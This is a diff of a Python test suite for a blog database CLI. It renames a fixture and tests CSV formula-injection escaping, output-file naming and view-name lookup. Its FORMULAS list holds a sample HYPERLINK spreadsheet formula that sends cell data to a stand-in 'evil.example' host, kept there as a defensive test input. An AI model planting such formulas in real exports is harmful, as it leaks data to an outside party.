@@ -5,8 +5,7 @@ from __future__ import annotations
 import csv
 import io
 import json
-import subprocess
-from collections.abc import Callable, Iterator
+from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
 
@@ -15,12 +14,12 @@ from hypothesis import example, given, settings
 from hypothesis import strategies as st
 from markdown_it import MarkdownIt
 
+from blogdb.cli.display import visible
+from blogdb.cli.formats import write
 from blogdb.cli.options import RowOptions
-from blogdb.cli.output import write
-from blogdb.cli.reading import Rows
-from blogdb.cli.text import visible
+from blogdb.cli.session import Rows
 
-Run = Callable[..., subprocess.CompletedProcess[str]]
+from ..conftest import Run
 
 FORMULAS = [
     '=HYPERLINK("https://evil.example?"&A1,"click")',
@@ -147,22 +146,22 @@ def test_no_cell_of_csv_runs(rows: list[tuple[str, str]]) -> None:
 
 
 @pytest.mark.usefixtures("blog")
-def test_numbers_stay_numbers(run: Run) -> None:
+def test_numbers_stay_numbers(run_here: Run) -> None:
     """Negative numbers, dates and times are no texts, whatever they begin with."""
     sql = "select -1 as a, -1.5 as b, -1e300::double as c, interval (-1) day as d"
-    done = run("query", sql, "-f", "csv")
+    done = run_here("query", sql, "-f", "csv")
     assert (done.returncode, done.stderr) == (0, "")
     assert done.stdout.splitlines()[1].startswith("-1,-1.5,-1e+300,")
     assert "'" not in done.stdout
 
 
-def test_formulas_of_names(run: Run, blog: Path) -> None:
+def test_formulas_of_names(run_here: Run, blog: Path) -> None:
     """Names of columns are marked as well; --exact reaches the program."""
     sql = """select '=1' as "=cmd", '@x' as b"""
-    done = run("query", sql, "-f", "csv", "--db", blog)
+    done = run_here("query", sql, "-f", "csv", "--db", blog)
     assert done.stdout == "'=cmd,b\n'=1,'@x\n"
     assert "3 texts" in done.stderr
-    done = run("query", sql, "-f", "csv", "--exact", "--db", blog)
+    done = run_here("query", sql, "-f", "csv", "--exact", "--db", blog)
     assert (done.stdout, done.stderr) == ("=cmd,b\n=1,@x\n", "")
 
 
@@ -191,9 +190,9 @@ def test_every_type(
 
 
 @pytest.mark.usefixtures("blog")
-def test_json_keeps_columns_of_one_name(run: Run) -> None:
+def test_json_keeps_columns_of_one_name(run_here: Run) -> None:
     """Columns of one name are told apart in JSON, as in Parquet."""
-    done = run("query", "select 1 as a, 2 as a, 3 as a_1", "-f", "json")
+    done = run_here("query", "select 1 as a, 2 as a, 3 as a_1", "-f", "json")
     assert list(json.loads(done.stdout)[0].values()) == [1, 2, 3]
 
 
@@ -216,12 +215,12 @@ def test_json_keeps_columns_of_one_name(run: Run) -> None:
         "x\x1b[31m",
     ],
 )
-def test_output_of_any_name(run: Run, blog: Path, form: str, name: str) -> None:
+def test_output_of_any_name(run_here: Run, blog: Path, form: str, name: str) -> None:
     """Any name of an output is that file and no other, and holds the rows."""
     folder = blog.parent / "out"
     folder.mkdir()
     arguments = ("--format", form, "--db", blog, f"--output={folder / name}")
-    done = run("query", "select 1 as one", *arguments)
+    done = run_here("query", "select 1 as one", *arguments)
     assert (done.returncode, done.stdout, done.stderr) == (0, "", "")
     (found,) = folder.iterdir()
     assert found.name == name
@@ -249,10 +248,10 @@ def test_output_of_any_name(run: Run, blog: Path, form: str, name: str) -> None:
         "duckdb_settings()",
     ],
 )
-def test_name_is_a_name(run: Run, blog: Path, command: str, name: str) -> None:
+def test_name_is_a_name(run_here: Run, blog: Path, command: str, name: str) -> None:
     """What stands for a view's name is looked up, and never run."""
     before = blog.read_bytes()
-    done = run(command, "--db", blog, "--", name)
+    done = run_here(command, "--db", blog, "--", name)
     assert (done.returncode, done.stdout) == (9, "")
     assert done.stderr.startswith("blogdb: there is no view, table or macro")
     assert done.stderr.count("\n") == 1
